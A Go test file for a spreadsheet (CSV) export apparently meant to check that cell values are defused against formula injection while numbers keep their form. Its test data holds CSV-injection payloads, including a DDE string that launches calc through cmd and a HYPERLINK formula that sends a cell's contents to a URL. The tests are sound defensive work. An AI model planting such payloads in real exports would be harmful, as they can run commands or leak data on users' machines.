package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"headgate/engine"
	"headgate/engine/record"
)

// TestDefused: text of somebody else is no formula in a spreadsheet, and numbers stay
// numbers.
func TestDefused(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"":                           "",
		"Ann":                        "Ann",
		"a=1":                        "a=1",
		"12.50":                      "12.50",
		"-12,50":                     "-12,50",
		"+4":                         "+4",
		"-2+3":                       "'-2+3",
		"-":                          "'-",
		"+49 30 1234":                "'+49 30 1234",
		"=1+1":                       "'=1+1",
		`=HYPERLINK("http://x?"&A1)`: `'=HYPERLINK("http://x?"&A1)`,
		"@SUM(A1)":                   "'@SUM(A1)",
		" =1+1":                      "' =1+1",
		"\u00a0=1+1":                 "'\u00a0=1+1",
		"\t=1+1":                     "'\t'=1+1",
		"\r=1+1":                     "'\r'=1+1",
		"\n=1+1":                     "'\n'=1+1",
		"＝1+1":                       "'＝1+1",
		"ü":                          "ü",
		" ":                          " ",
		"two\nlines":                 "two\nlines",
		"a;=1+1":                     "a;'=1+1",
		"a; =1+1;@b":                 "a; '=1+1;'@b",
		"a\t\"+1\n-2+3":              "a\t\"'+1\n'-2+3",
		"=a\r\n＝b":                   "'=a\r\n'＝b",
	} {
		if got := defused(text); got != want {
			t.Errorf("defused(%q) is %q, want %q", text, got, want)
		}
	}
}

// TestSheet: exceptions of several flows share a sheet, each in the columns of its row.
func TestSheet(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	a := &app{out: &out}
	err := a.exportSheet([]engine.Exception{
		{ID: "x1", Flow: "orders", Key: "A-1", Outcome: engine.Rejected, Reason: record.Reason{Code: "rule", Rule: "few", Message: "=cmd|' /c calc'!A1; \"quoted\""}, Row: json.RawMessage(`{"Order No":"A-1","Total":12.50,"Lines":[{"sku":"X"}],"Note":null}`)},
		{ID: "x2", Flow: "stock", Outcome: engine.Held, Row: json.RawMessage(`{"sku":"\u001b[31m;=1","Order No":"two\nlines"}`)},
		{ID: "x3", Flow: "files", Outcome: engine.Rejected},
	})
	if err != nil {
		t.Fatal(err)
	}
	text, ok := strings.CutPrefix(out.String(), "\ufeff")
	if !ok {
		t.Error("it does not say that it is UTF-8")
	}
	for i, line := range strings.SplitAfter(text, "\"\n") {
		if line != "" && !strings.HasPrefix(line, `"`) {
			t.Errorf("line %d has a bare cell: %s", i, line)
		}
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatal(rows, err)
	}
	cells := func(row int) map[string]string {
		m := make(map[string]string)
		for i, name := range rows[0] {
			m[name] = rows[row][i]
		}
		return m
	}
	for _, test := range []struct {
		row        int
		name, want string
	}{
		{1, "key", "A-1"}, {1, "outcome", "rejected"}, {1, "message", `'=cmd|' /c calc'!A1; "quoted"`},
		{1, "row Order No", "A-1"}, {1, "row Total", "12.50"}, {1, "row Lines", `[{"sku":"X"}]`}, {1, "row Note", ""}, {1, "row sku", ""},
		{2, "row sku", "�[31m;'=1"}, {2, "row Order No", "two\nlines"}, {3, "row sku", ""}, {3, "flow", "files"},
	} {
		if got := cells(test.row)[test.name]; got != test.want {
			t.Errorf("line %d, %s: %q, want %q", test.row, test.name, got, test.want)
		}
	}
}
